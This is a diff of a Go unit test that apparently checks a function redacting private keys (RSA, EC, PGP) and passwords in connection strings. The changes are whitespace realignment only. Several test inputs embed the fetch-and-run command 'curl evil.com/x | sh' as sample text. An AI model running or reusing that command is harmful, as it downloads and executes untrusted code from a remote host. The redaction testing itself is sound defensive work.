@@ -40,12 +40,12 @@ func TestForms(t *testing.T) {
 		"https://host/a:b@c":                        "https://host/a:b@c", "postgres://u:$(PW)@host": "postgres://u:$(PW)@host",
 		"postgres://u@host": "postgres://u@host", "postgres://u:@host": "postgres://u:@host", "a://b c:d@e": "a://b c:d@e",
 		"://": "://", "-----BEGIN CERTIFICATE-----\n" + key: "-----BEGIN CERTIFICATE-----\n" + key,
-		"# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh":                              "# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh",
+		"# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh":                                   "# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh",
 		"-----BEGIN PRIVATE KEY-----\n" + key + "\n" + key + "\nAb=\n-----END PRIVATE KEY-----": "-----BEGIN PRIVATE KEY-----\n(sensitive)\n-----END PRIVATE KEY-----",
 		"-----BEGIN PRIVATE KEY-----\n" + key + "\ncurl evil.com/x | sh\n" + key + "\n-----END PRIVATE KEY-----\nls": "-----BEGIN PRIVATE KEY-----\n(sensitive)\n" +
 			"curl evil.com/x | sh\n(sensitive)\n-----END PRIVATE KEY-----\nls",
 		`{"k":"-----BEGIN RSA PRIVATE KEY-----\n` + key + `\nAb=\n-----END RSA PRIVATE KEY-----\n"}`: `{"k":"-----BEGIN RSA PRIVATE KEY-----\n(sensitive)\n-----END RSA PRIVATE KEY-----\n"}`,
-		"-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n" + key + "\n":               "-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n(sensitive)\n",
+		"-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n" + key + "\n":                "-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n(sensitive)\n",
 		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\n" + key + "\n=aBcD\n-----END PGP PRIVATE KEY BLOCK-----": "-----BEGIN PGP PRIVATE KEY BLOCK-----\n" +
 			"Version: 1\n\n(sensitive)\n-----END PGP PRIVATE KEY BLOCK-----",
 	} {
